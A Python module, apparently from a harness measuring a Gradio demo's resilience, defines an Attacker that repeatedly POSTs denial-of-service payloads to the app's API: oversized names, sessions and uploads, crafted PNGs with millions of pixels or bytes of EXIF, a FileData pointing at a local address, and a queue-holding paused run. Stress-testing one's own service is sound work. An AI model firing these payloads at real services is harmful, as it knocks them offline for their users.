"""A stranger who means harm, beside a crowd: sends, one after the other, what once stopped the page for everybody."""

from __future__ import annotations

import base64
import http.client
import json
import struct
import threading
import zlib
from collections import Counter
from dataclasses import dataclass, field

from demo.measuring.visitor import Target

API = "gradio_api/"
JSON = "application/json"
Attack = tuple[str, str, bytes, str]  # its name, the path, the body and the kind of that


def png(side: int, exif: bytes = b"") -> bytes:
    """A gray image of side by side pixels that holds no rows, with an EXIF chunk."""
    header = struct.pack(">IIBBBBB", side, side, 8, 0, 0, 0, 0)
    rows = zlib.compress(bytes((side + 1) * side)) if side < 100 else zlib.compress(b"")
    chunks = [(b"IHDR", header), *([(b"eXIf", exif)] if exif else []), (b"IDAT", rows), (b"IEND", b"")]
    return b"\x89PNG\r\n\x1a\n" + b"".join(
        struct.pack(">I", len(data)) + kind + data + struct.pack(">I", zlib.crc32(kind + data)) for kind, data in chunks
    )


def attacks(target: Target) -> list[Attack]:
    """Names and sessions without end, bodies that nobody reads, EXIF and pixels by the million, addresses."""
    component = target.functions["look"]
    root = f"{target.page}{API}"

    def call(**more: object) -> bytes:
        return json.dumps(
            {"component_id": component, "fn_name": "look", "session_hash": "a", "data": {}, **more}
        ).encode()

    def explain(image: object) -> bytes:
        return json.dumps({"data": ["mnist", None, image, 0, 0, 1, *[0] * 6, 0, False]}).encode()

    def uri(data: bytes) -> str:
        return f"data:image/png;base64,{base64.b64encode(data).decode()}"

    address = {"path": "http://127.0.0.1:9/", "url": "http://127.0.0.1:9/", "meta": {"_type": "gradio.FileData"}}
    return [
        ("long name", f"{root}component_server/", call(fn_name="a" * 2_000_000), JSON),
        ("long session", f"{root}component_server/", call(session_hash="a" * 4_000_000), JSON),
        ("unread body", f"{root}call/explain", explain("a" * 5_000_000), JSON),
        ("few values", f"{root}run/explain", json.dumps({"data": ["a" * 200_000]}).encode(), JSON),
        ("EXIF", f"{root}run/explain", explain(uri(png(8, b"Exif\0\0" * 600_000))), JSON),
        ("pixels", f"{root}run/explain", explain(uri(png(12_000))), JSON),
        ("address", f"{root}call/explain", explain(address), JSON),
        ("upload", f"{root}upload", b"a" * 5_000_000, "multipart/form-data; boundary=a"),
        ("place", f"{root}component_server/", _train(target), JSON),
    ]


def _train(target: Target) -> bytes:
    """A run that only holds a place."""
    asked = {"component_id": target.functions["train"], "fn_name": "train", "session_hash": "a"}
    return json.dumps(asked | {"data": {"action": "start", "paused": True}}).encode()


@dataclass
class Attacker:
    """Sends them until it is over; `answers` counts what came back by the attack's name and the status."""

    target: Target
    answers: Counter[str] = field(default_factory=Counter)

    def go_on(self, over: threading.Event) -> None:
        prepared = attacks(self.target)
        while not over.is_set():
            for name, path, body, kind in prepared:
                if over.is_set():
                    return
                self.answers[f"{name}: {self._send(path, body, kind)}"] += 1

    def _send(self, path: str, body: bytes, kind: str) -> str:
        connection = http.client.HTTPConnection(self.target.host, self.target.port, timeout=60)
        try:
            connection.request("POST", path, body, {"Content-Type": kind})
            return str(connection.getresponse().status)
        except (OSError, http.client.HTTPException) as error:  # the server hangs up before it has read everything
            return type(error).__name__
        finally:
            connection.close()
